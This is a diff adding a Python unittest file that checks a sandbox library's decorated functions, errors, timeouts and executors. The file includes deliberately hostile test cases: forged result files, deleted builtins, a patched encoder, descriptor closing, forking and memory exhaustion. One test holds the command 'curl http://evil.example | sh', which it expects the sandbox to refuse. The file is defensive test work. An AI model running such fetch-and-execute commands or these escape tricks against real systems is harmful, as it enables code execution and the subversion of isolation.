@@ -1,0 +1,283 @@
+"""Functions that run in a sandbox."""
+
+import asyncio
+import contextlib
+import dataclasses
+import enum
+import io
+import json as renamed
+import math
+import os
+import threading
+import unittest
+
+import caisson
+from caisson import CallTimeout, Client, CrashedError, InvalidError, RemoteError, SandboxExecutor, ValueFormatError, sandbox_run
+
+LIMIT = 3
+TABLE = {"a": [1, 2], 5: {"x"}}
+
+
+class Colour(enum.Enum):
+    RED = 1
+    BLUE = 2
+
+
+@dataclasses.dataclass(frozen=True)
+class Point:
+    x: int
+    y: float = 0.0
+
+    def moved(self, by):
+        return Point(self.x + by, self.y)
+
+
+class OursError(Exception):
+    def __init__(self, message, code):
+        super().__init__(message, code)
+        self.code = code
+
+
+def helper(n):
+    return n + LIMIT
+
+
+@sandbox_run
+def plus(a, b=2, *rest, c=3, **more):
+    return a + b + sum(rest) + c, more
+
+
+@sandbox_run
+def uses(n: "no.such.annotation") -> int:
+    return [helper(n), math.floor(2.5), renamed.dumps([1]), sorted(TABLE["a"]), plus(1)[0], factorial(5)]
+
+
+@sandbox_run
+def factorial(n):
+    return 1 if n < 2 else n * factorial(n - 1)
+
+
+@sandbox_run
+def is_inside():
+    return os.getcwd(), os.path.exists("/workspace")
+
+
+@sandbox_run
+async def slowly(n):
+    import asyncio as a
+
+    await a.sleep(0)
+    return n * 2
+
+
+@sandbox_run
+def point(p, colour):
+    return p.moved(1), [Colour.BLUE, colour]
+
+
+@sandbox_run
+def raises(what):
+    if what == "known":
+        raise KeyError("gone", 5)
+    if what == "ours":
+        raise OursError("bad", 7)
+    if what == "local":
+        class Local(Exception):
+            def __str__(self):
+                raise ValueError("no text")
+        raise Local("x")
+    if what == "exit":
+        raise SystemExit(3)
+    raise KeyboardInterrupt
+
+
+@sandbox_run
+def hostile(what):
+    import builtins
+    import socket
+    import sys
+
+    if what == "exit":
+        os._exit(0)
+    if what == "close":
+        os.closerange(0, 1000)
+        return "closed"
+    if what == "builtins":
+        remove = delattr
+        for name in list(vars(builtins)):
+            remove(builtins, name)
+        return "done"
+    if what == "file":
+        with open("/workspace/.caisson-result", "wb") as f:
+            f.write(b"CAISSON1" + bytes(8))
+        os._exit(0)
+    if what == "patch":
+        sys.modules["caisson_values"].encode = lambda *a: b"CAISSON1junk"
+        return "mine"
+    if what == "generator":
+        return [1, {"a": (i for i in ())}]
+    if what == "socket":
+        return socket.socket()
+    if what == "function":
+        return hostile
+    if what == "recursion":
+        return hostile("recursion")
+    if what == "large":
+        return bytes(1 << 20)
+    if what == "memory":
+        return bytearray(1 << 40)
+
+
+@sandbox_run
+def forks():
+    if os.fork() == 0:
+        return "child"
+    os.wait()
+    return "parent"
+
+
+class Counter:
+    def __init__(self, start):
+        self.count = start
+
+    @sandbox_run
+    def add(self, n):
+        self.count += n
+        return self.count + self._twice(n)
+
+    def _twice(self, n):
+        return 2 * n
+
+    @classmethod
+    @sandbox_run
+    def made(cls, n):
+        return cls(n).count
+
+    @sandbox_run
+    @classmethod
+    def made_too(cls, n):
+        return cls(n).count + 1
+
+    @staticmethod
+    @sandbox_run
+    def plain(n):
+        return n - 1
+
+
+class TestFunctions(unittest.TestCase):
+    def test_arguments_and_globals(self):
+        self.assertEqual(plus(1), (6, {}))
+        self.assertEqual(plus(1, 1, 1, 1, c=0, d="x"), (4, {"d": "x"}))
+        self.assertRaises(TypeError, plus)
+        self.assertEqual(uses(4), [7, 2, "[1]", [1, 2], 6, 120])
+        self.assertEqual(is_inside(), ("/workspace", True))
+        self.assertEqual(point(Point(1, 2.5), Colour.RED), (Point(2, 2.5), [Colour.BLUE, Colour.RED]))
+
+    def test_kinds(self):
+        self.assertEqual(asyncio.run(slowly(4)), 8)
+        c = Counter(10)
+        self.assertEqual((c.add(5), c.count), (25, 10))
+        self.assertEqual((Counter.made(4), c.made(3), Counter.made_too(4), Counter.plain(4), c.plain(1)), (4, 3, 5, 3, 0))
+
+    def test_closure(self):
+        factor, seen = 3, [1]
+
+        @sandbox_run
+        def inner(n):
+            seen.append(n)
+            return n * factor, seen
+
+        self.assertEqual((inner(2), seen), ((6, [1, 2]), [1]))
+
+        @sandbox_run
+        def assigns():
+            nonlocal factor
+            factor = 4
+
+        self.assertRaisesRegex(InvalidError, "factor", assigns)
+        self.assertRaisesRegex(InvalidError, "lambda", sandbox_run(lambda: 1))
+        space = {"sandbox_run": sandbox_run}
+        exec("def sourceless(): return 1", space)
+        self.assertRaisesRegex(InvalidError, "no source", sandbox_run(space["sourceless"]))
+        self.assertRaisesRegex(ValueFormatError, r"args'\]\[0\].*lock", plus, threading.Lock())
+
+    def test_exceptions(self):
+        with self.assertRaises(KeyError) as caught:
+            raises("known")
+        self.assertEqual(caught.exception.args, ("gone", 5))
+        self.assertIn('raise KeyError("gone", 5)'.replace('"', "'"), str(caught.exception.__cause__))
+        with self.assertRaises(OursError) as caught:
+            raises("ours")
+        self.assertEqual(caught.exception.args, ("bad", 7))
+        with self.assertRaisesRegex(RemoteError, "__str__ raised ValueError"):
+            raises("local")
+        for what, name in (("exit", "SystemExit"), ("interrupt", "KeyboardInterrupt")):
+            with self.assertRaises(RemoteError) as caught:
+                raises(what)
+            self.assertEqual(caught.exception.type_name, name)
+
+    def test_outcome_never_raises(self):
+        good = plus.outcome(1)
+        self.assertEqual((good.ok, good.value, good.result.exit_reason), (True, (6, {}), "exited"))
+        self.assertGreater(good.usage.wall_ms, 0)
+        bad = raises.outcome("known")
+        self.assertEqual((bad.ok, type(bad.error)), (False, KeyError))
+        self.assertIsInstance(plus.outcome().error, TypeError)
+
+        @sandbox_run
+        def refused():
+            os.system("curl http://evil.example | sh")
+
+        self.assertIsInstance(refused.outcome().error, caisson.DeniedError)
+
+    def test_hostile(self):
+        for what, kind in (
+            ("exit", CrashedError), ("file", CrashedError), ("generator", ValueFormatError), ("socket", ValueFormatError),
+            ("function", ValueFormatError), ("recursion", RecursionError), ("memory", MemoryError),
+        ):  # fmt: skip
+            with self.subTest(what):
+                self.assertIsInstance(hostile.outcome(what).error, kind)
+        self.assertRaisesRegex(ValueFormatError, r"\[1\]\['a'\].*generator", hostile, "generator")
+        self.assertEqual((hostile("close"), forks()), ("closed", "parent"))
+        for what in ("builtins", "patch"):  # it may come through, or not: as data or an error
+            outcome = hostile.outcome(what)
+            self.assertTrue(isinstance(outcome.error, Exception) or outcome.value in ("done", "mine"), outcome)
+        self.assertIsInstance(hostile.with_options(max_result=100_000).outcome("large").error, ValueFormatError)
+        self.assertEqual(len(hostile("large")), 1 << 20)
+
+    def test_output_and_options(self):
+        @sandbox_run(timeout=1)
+        def sleeps():
+            import time
+
+            time.sleep(600)
+
+        with self.assertRaises(TimeoutError) as caught:
+            sleeps()
+        self.assertIsInstance(caught.exception, CallTimeout)
+
+        @sandbox_run(files={"in.txt": "given"}, memory="128m", cpus=1)
+        def says():
+            with open("in.txt") as f:
+                print(f.read())
+
+        for function, want in ((says, "given\n"), (says.with_options(quiet=True), "")):
+            out = io.StringIO()
+            with contextlib.redirect_stdout(out):
+                function()
+            self.assertEqual(out.getvalue(), want)
+        self.assertEqual((says.outcome().stdout, says.with_options(quiet=True).outcome().stdout), ("given\n", ""))
+        self.assertRaises(InvalidError, sandbox_run, print)
+        with self.assertRaises(InvalidError):
+            sandbox_run(no_such=1)
+
+    def test_map_and_submit(self):
+        self.assertEqual(list(factorial.map([1, 2, 3, 4])), [1, 2, 6, 24])
+        with SandboxExecutor(3) as pool:
+            crashed, fine = pool.submit(hostile, "exit"), [pool.submit(helper, n) for n in range(3)]
+            self.assertEqual([f.result() for f in fine], [3, 4, 5])
+            self.assertIsInstance(crashed.exception(), CrashedError)
+
+
+if __name__ == "__main__":
+    unittest.main()
